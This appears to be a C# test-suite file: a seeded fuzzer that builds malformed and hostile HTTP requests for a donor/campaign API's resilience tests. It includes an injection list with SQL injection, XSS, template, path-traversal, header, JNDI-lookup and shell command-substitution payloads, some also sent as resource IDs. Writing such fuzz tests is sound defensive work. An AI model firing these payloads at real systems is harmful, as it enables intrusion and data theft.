using System.Text;
using System.Text.Json.Nodes;

namespace Campaign.ResilienceTests.Fuzzing;

/// <summary>A value that makes a JSON body invalid: <see cref="Json"/> is written as is (it may itself be malformed), or the field is removed.</summary>
/// <param name="Field">Dotted path of the property, e.g. <c>address.state</c>.</param>
/// <param name="Json">Raw JSON text put in place of the value; null removes the property.</param>
/// <param name="Kind">What is wrong, for the report.</param>
public sealed record BadField(string Field, string? Json, string Kind);

/// <summary>
/// Generates hostile requests deterministically from a seed: every listed bad value once, every structural corruption of a
/// valid body once, then random combinations until the asked number is reached. Each request is wrong in at least one way
/// the endpoint must refuse.
/// </summary>
public sealed class Fuzzer(int seed)
{
    readonly Random _random = new(seed);

    public Random Random => _random;

    /// <summary>Requests with JSON bodies for one endpoint.</summary>
    /// <param name="endpoint">The endpoint's name in the report.</param>
    /// <param name="method">The endpoint's method.</param>
    /// <param name="path">The path of the i-th request (so requests can target existing or missing resources).</param>
    /// <param name="validBody">A body the endpoint would accept (with unique values per i).</param>
    /// <param name="badFields">Values that make the body invalid, one field at a time.</param>
    /// <param name="count">How many requests, at least.</param>
    /// <param name="headers">Headers every request carries.</param>
    /// <param name="structuralPath">Where bodies that are not a bad field go (see below); default <paramref name="path"/>.</param>
    public List<HostileRequest> JsonEndpoint(string endpoint, HttpMethod method, Func<int, string> path, Func<int, JsonObject> validBody,
        IReadOnlyList<BadField> badFields, int count, IReadOnlyList<KeyValuePair<string, string>>? headers = null,
        Func<int, string>? structuralPath = null)
    {
        // Bodies that are not a bad value in a field (no body, wrong content type, not an object) go to structuralPath when
        // given: an endpoint whose body is optional must still refuse them, there by the state of the resource.
        structuralPath ??= path;
        var requests = new List<HostileRequest>();
        var i = 0;
        HostileRequest Json(string kind, string body, string? contentType = "application/json", HttpMethod? m = null) =>
            new(endpoint, kind, m ?? method, structuralPath(i++), Encoding.UTF8.GetBytes(body), contentType, headers ?? []);

        foreach (var bad in badFields)
            requests.Add(new HostileRequest(endpoint, bad.Kind, method, path(i), Encoding.UTF8.GetBytes(With(validBody(i++), bad)),
                "application/json", headers ?? []));

        foreach (var (kind, body) in Malformed(validBody(i).ToJsonString()))
            requests.Add(new HostileRequest(endpoint, kind, method, structuralPath(i++), body, "application/json", headers ?? []));

        var valid = validBody(i).ToJsonString();
        requests.Add(Json("no content type", valid, contentType: null));
        requests.Add(Json("text/plain body", valid, "text/plain"));
        requests.Add(Json("form content type", valid, "application/x-www-form-urlencoded"));
        requests.Add(Json("xml content type", "<donor><name>x</name></donor>", "application/xml"));
        requests.Add(Json("multipart content type", valid, "multipart/form-data; boundary=x"));
        requests.Add(Json("unknown charset", valid, "application/json; charset=ebcdic-cp-us"));
        requests.Add(Json("utf-16 charset, utf-8 body", valid, "application/json; charset=utf-16"));
        requests.Add(new HostileRequest(endpoint, "no body", method, structuralPath(i++), null, null, headers ?? []));
        foreach (var wrongMethod in new[] { HttpMethod.Put, HttpMethod.Delete, HttpMethod.Patch })
        {
            if (wrongMethod != method)
                requests.Add(Json("wrong method", valid, m: wrongMethod));
        }

        while (requests.Count < count)
        {
            switch (_random.Next(4))
            {
                case 0:
                case 1:
                    // One to three bad fields at once.
                    var picked = Enumerable.Range(0, 1 + _random.Next(3)).Select(_ => badFields[_random.Next(badFields.Count)])
                        .DistinctBy(b => b.Field).ToArray();
                    requests.Add(new HostileRequest(endpoint, "bad fields: " + string.Join(" + ", picked.Select(p => p.Kind)), method, path(i),
                        Encoding.UTF8.GetBytes(With(validBody(i++), picked)), "application/json", headers ?? []));
                    break;
                case 2:
                    var whole = validBody(i).ToJsonString();
                    var cut = _random.Next(whole.Length - 1);
                    requests.Add(Json($"truncated at {cut}", whole[..cut]));
                    break;
                default:
                    var noise = new byte[1 + _random.Next(512)];
                    _random.NextBytes(noise);
                    noise[0] = (byte)"{[\"tfn-0123456789"[_random.Next(16)];
                    requests.Add(new HostileRequest(endpoint, "random bytes", method, structuralPath(i++), noise, "application/json", headers ?? []));
                    break;
            }
        }
        return requests;
    }

    /// <summary>
    /// GET requests with a hostile query string: each bad value of each parameter once, then random mixes of one to three
    /// parameters (at least one bad) until <paramref name="count"/>.
    /// </summary>
    public List<HostileRequest> Query(string endpoint, string path, IReadOnlyDictionary<string, string[]> bad,
        IReadOnlyDictionary<string, string[]> good, int count)
    {
        ArgumentNullException.ThrowIfNull(bad);
        ArgumentNullException.ThrowIfNull(good);
        var requests = new List<HostileRequest>();
        HostileRequest Get(string kind, IEnumerable<(string Name, string Value)> query) =>
            new(endpoint, kind, HttpMethod.Get, path + "?" + string.Join("&", query.Select(q => $"{q.Name}={Uri.EscapeDataString(q.Value)}")),
                null, null, []);

        foreach (var (name, values) in bad)
        {
            foreach (var value in values)
                requests.Add(Get($"{name} bad", [(name, value)]));
        }

        var names = bad.Keys.ToArray();
        while (requests.Count < count)
        {
            var badName = names[_random.Next(names.Length)];
            var query = new List<(string, string)> { (badName, bad[badName][_random.Next(bad[badName].Length)]) };
            foreach (var other in good.Keys.Where(k => k != badName && _random.Next(2) == 0))
            {
                var pool = _random.Next(3) == 0 && bad.TryGetValue(other, out var worse) ? worse : good[other];
                query.Add((other, pool[_random.Next(pool.Length)]));
            }
            requests.Add(Get($"{badName} bad, mixed", query.OrderBy(_ => _random.Next())));
        }
        return requests;
    }

    /// <summary>
    /// Requests to <c>{prefix}/{id}{suffix}</c> with ids that are not resources: non-GUID segments (no route matches) and GUIDs
    /// that exist nowhere. <paramref name="body"/> is sent as JSON when given.
    /// </summary>
    public List<HostileRequest> Ids(string endpoint, HttpMethod method, string prefix, string suffix, int count, string? body = null)
    {
        string[] fixedIds =
        [
            "not-a-guid", "1", "0", "-1", "00000000-0000-0000-0000-000000000000", "ffffffff-ffff-ffff-ffff-ffffffffffff",
            "..%2f..%2fetc%2fpasswd", "%27%20OR%201%3D1", "%3Cscript%3E", "{00000000-0000-0000-0000-000000000000}x",
            Chars(5000, '9'), "null", "undefined", "%E2%80%AE", "12345678-1234-1234-1234-1234567890123",
        ];
        var requests = new List<HostileRequest>();
        HostileRequest Make(string kind, string id) =>
            new(endpoint, kind, method, $"{prefix}/{id}{suffix}", body is null ? null : Encoding.UTF8.GetBytes(body),
                body is null ? null : "application/json", []);

        requests.AddRange(fixedIds.Select(id => Make("id not a resource", id)));
        while (requests.Count < count)
        {
            switch (_random.Next(3))
            {
                case 0:
                    var bytes = new byte[16];
                    _random.NextBytes(bytes);
                    requests.Add(Make("unknown id", new Guid(bytes).ToString()));
                    break;
                case 1:
                    requests.Add(Make("injection as id", Uri.EscapeDataString(Injections[_random.Next(Injections.Count)])));
                    break;
                default:
                    var chars = Enumerable.Range(0, 1 + _random.Next(60)).Select(_ => (char)_random.Next(33, 127)).Where(c => c != '.').DefaultIfEmpty('x').ToArray();
                    requests.Add(Make("random id", Uri.EscapeDataString(new string(chars))));
                    break;
            }
        }
        return requests;
    }

    /// <summary>Requests without a body (GET, or POST to a resource that does not exist) on hostile paths and query strings.</summary>
    public static List<HostileRequest> Paths(string endpoint, HttpMethod method, IEnumerable<(string Kind, string Path)> paths) =>
        [.. paths.Select(p => new HostileRequest(endpoint, p.Kind, method, p.Path, null, null, []))];

    /// <summary>The valid body with the bad fields written in.</summary>
    public static string With(JsonObject body, params BadField[] bad)
    {
        ArgumentNullException.ThrowIfNull(body);
        var replacements = new Dictionary<string, string>();
        foreach (var (field, json, _) in bad)
        {
            var (parent, name) = Navigate(body, field);
            if (json is null)
            {
                parent.Remove(name);
                continue;
            }
            var marker = $"@@bad{replacements.Count}@@";
            parent[name] = marker;
            replacements[$"\"{marker}\""] = json;
        }
        var text = body.ToJsonString();
        foreach (var (marker, json) in replacements)
            text = text.Replace(marker, json, StringComparison.Ordinal);
        return text;
    }

    static (JsonObject Parent, string Name) Navigate(JsonObject body, string field)
    {
        var parts = field.Split('.');
        var node = body;
        foreach (var part in parts[..^1])
        {
            if (node[part] is not JsonObject child)
            {
                child = [];
                node[part] = child;
            }
            node = child;
        }
        return (node, parts[^1]);
    }

    /// <summary>Structural corruptions of a valid body: each is not JSON, or not the JSON object the endpoint reads.</summary>
    public static IEnumerable<(string Kind, byte[] Body)> Malformed(string valid)
    {
        ArgumentNullException.ThrowIfNull(valid);
        static byte[] Utf8(string s) => Encoding.UTF8.GetBytes(s);
        yield return ("empty body", []);
        yield return ("whitespace body", Utf8("   \r\n\t "));
        yield return ("null", Utf8("null"));
        yield return ("array", Utf8($"[{valid}]"));
        yield return ("number", Utf8("42"));
        yield return ("string", Utf8("\"donor\""));
        yield return ("true", Utf8("true"));
        yield return ("missing closing brace", Utf8(valid[..^1]));
        yield return ("extra closing brace", Utf8(valid + "}"));
        yield return ("trailing garbage", Utf8(valid + "garbage"));
        yield return ("two objects", Utf8(valid + valid));
        yield return ("trailing comma", Utf8(valid[..^1] + ",}"));
        yield return ("comment", Utf8("/* hi */" + valid));
        yield return ("single quotes", Utf8(valid.Replace('"', '\'')));
        yield return ("unquoted keys", Utf8(System.Text.RegularExpressions.Regex.Replace(valid, "\"([a-zA-Z]+)\":", "$1:")));
        yield return ("NaN literal", Utf8(valid[..^1] + ",\"x\":NaN}"));
        yield return ("hex number", Utf8(valid[..^1] + ",\"x\":0x10}"));
        yield return ("invalid escape", Utf8(valid[..^1] + ",\"x\":\"\\q\"}"));

        yield return ("control character in string", Utf8(valid[..^1] + ",\"x\":\"a\u0001b\"}"));
        // In the first string value the endpoint reads (invalid bytes in a property it ignores are skipped unread).
        var firstString = valid.IndexOf(":\"", StringComparison.Ordinal) + 2;
        yield return ("invalid UTF-8", [.. Utf8(valid[..firstString]), 0xC3, 0x28, 0xFF, 0xFE, .. Utf8(valid[firstString..])]);
        yield return ("lone surrogate escape", Utf8(valid[..firstString] + "\\uD800" + valid[firstString..]));
        yield return ("UTF-16 body", Encoding.Unicode.GetBytes(valid));
        yield return ("deep nesting", Utf8(new string('[', 100_000) + new string(']', 100_000)));
        yield return ("deep object nesting", Utf8(string.Concat(Enumerable.Repeat("{\"a\":", 5_000)) + "1" + new string('}', 5_000)));
        yield return ("4 MB body ending in a trailing comma", Utf8(valid[..^1] + ",\"x\":\"" + new string('x', 4_000_000) + "\",}"));
        yield return ("huge array", Utf8("[" + string.Join(",", Enumerable.Repeat(valid, 20_000)) + "]"));
        yield return ("NUL bytes", [0, 0, 0, 0]);
        yield return ("binary zip header", [0x50, 0x4B, 0x03, 0x04, 0x14, 0x00]);
    }

    /// <summary>JSON values of the wrong type for a string property.</summary>
    public static IEnumerable<string> NotAString => ["12345", "-1", "true", "false", "{}", "[]", "[\"a\"]", "{\"$ne\":null}", "1e999"];

    /// <summary>JSON values of the wrong type for a number property (never a numeric string, which ASP.NET Core reads as a number).</summary>
    public static IEnumerable<string> NotANumber =>
        ["\"abc\"", "\"\"", "true", "{}", "[]", "[1]", "\"NaN\"", "\"Infinity\"", "\"-Infinity\"", "\"1,000\"", "\"$25\"", "NaN", "Infinity",
         "0x10", "1e400", "-1e400", "79228162514264337593543950336", "--1", "+1", ".5", "1.", "01"];

    /// <summary>Strings that try to escape their context: SQL, script, template, path, header and format injection.</summary>
    public static IReadOnlyList<string> Injections { get; } =
    [
        "' OR '1'='1", "'; DROP TABLE \"Donors\"; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(10)--", "admin'--",
        "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "{{7*7}}", "${7*7}", "#{7*7}", "%s%s%s%n",
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "\r\nX-Injected: 1", "${jndi:ldap://example.org/a}",
        "{\"$gt\":\"\"}", "*)(uid=*))(|(uid=*", "|| ls -la", "`id`", "$(id)", "\u202Eevil", "%00", "%27%20OR%201=1",
    ];

    /// <summary>A string of <paramref name="length"/> characters.</summary>
    public static string Chars(int length, char c = 'a') => new(c, length);

    /// <summary>The JSON text of a string value.</summary>
    public static string Quote(string value) => System.Text.Json.JsonSerializer.Serialize(value);
}
